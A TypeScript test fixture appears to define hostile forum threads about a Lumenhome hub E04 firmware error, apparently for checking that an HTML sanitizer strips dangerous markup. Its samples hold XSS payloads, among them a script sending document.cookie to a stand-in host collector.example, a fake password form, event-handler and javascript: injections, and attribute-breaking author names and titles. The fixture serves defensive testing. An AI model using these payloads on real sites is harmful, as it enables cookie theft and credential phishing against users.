import { reply, thread, type SampleThread } from './sample-thread';

/** Markup that no community should let through, with a text that is worth reading. */
export const hostileAnswer = `<p>Quick fix for E04 after the firmware update when the lights stay offline: rebuild the radio table.</p>
<script>window.stolen = document.cookie; fetch('https://collector.example/?c=' + window.stolen)</script>
<img src="https://collector.example/pixel.gif" alt="a small chart" onerror="window.stolen = 1">
<img src="x" onerror="window.stolen = 2">
<a href="javascript:window.stolen=3">official download</a>
<a href="data:text/html,<script>window.stolen=4</script>">mirror</a>
<a href="https://collector.example/login" target="_blank" onclick="window.stolen=5">sign in to see the rest</a>
<style>body { display: none } :host, * { background: url(https://collector.example/style.gif) !important }</style>
<div style="position:fixed;inset:0;z-index:2147483647;background:url('https://collector.example/cover.gif')">Your session has ended.</div>
<iframe src="https://collector.example/frame"></iframe><object data="https://collector.example/o"></object>
<svg onload="window.stolen=6"><a xlink:href="javascript:window.stolen=7"><text y="20">chart</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.stolen=8"></style></mglyph></table></mtext></math>
<form action="https://collector.example/steal"><input name="password" type="password" placeholder="Your password"><button>Continue</button></form>
<video src="https://collector.example/v.mp4" autoplay></video><link rel="stylesheet" href="https://collector.example/s.css"><base href="https://collector.example/"><meta http-equiv="refresh" content="0;url=https://collector.example/">
<p>Hold the button for 12 seconds until the ring is amber, then rebuild the table.</p>`;

const hostileTitle = 'E04 firmware update: lights offline <img src=x onerror="window.stolen=9"> fix';

export const hostileForumThread: SampleThread = thread(
  hostileTitle,
  {
    by: '<b onmouseover=alert(1)>eve</b>',
    on: '2026-09-20',
    tags: 'e04 firmware "><script>window.stolen=10</script>',
    views: 900,
    agreement: 2,
  },
  '<p>My hub shows error E04 after the firmware update and all lights are offline.<img src=x onerror="window.stolen=11"></p>',
  [reply('"><svg onload=alert(1)>', '2026-09-21', 12, hostileAnswer, 'accepted')],
);

export const hostileQuestion: SampleThread = thread(
  'Lumenhome E04 after firmware update, hub lights offline </title><script>window.stolen=12</script>',
  { by: '<i>mallory</i>', on: '2026-09-22', tags: 'lumenhome firmware', views: 300, agreement: 1 },
  '<p>Error E04, hub, firmware update, lights offline.</p>',
  [reply("mallory' onclick='alert(1)", '2026-09-23', 6, hostileAnswer, 'accepted')],
);
